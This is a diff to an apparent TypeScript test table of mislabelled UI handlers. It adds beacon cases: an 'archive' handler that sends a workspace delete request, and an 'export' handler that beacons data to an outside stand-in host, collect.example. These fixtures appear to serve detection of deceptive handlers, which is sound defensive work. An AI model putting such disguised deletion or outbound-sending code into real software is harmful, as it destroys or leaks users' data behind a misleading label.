@@ -66,6 +66,18 @@ const swapped: readonly (readonly [mechanism: string, name: string, call: CallNa
     handler('export', `fetch('/api/logs/delete', { method: 'POST' });`),
   ],
   [
+    'by a beacon',
+    'a beacon deletes',
+    'archive',
+    handler('archive', `navigator.sendBeacon('/api/workspace/delete', 'x');`),
+  ],
+  [
+    'by a beacon',
+    'a beacon sends elsewhere',
+    'export',
+    handler('export', `navigator.sendBeacon('https://collect.example/report', 'x');`),
+  ],
+  [
     'form sends elsewhere',
     'the values go to another address',
     'member',
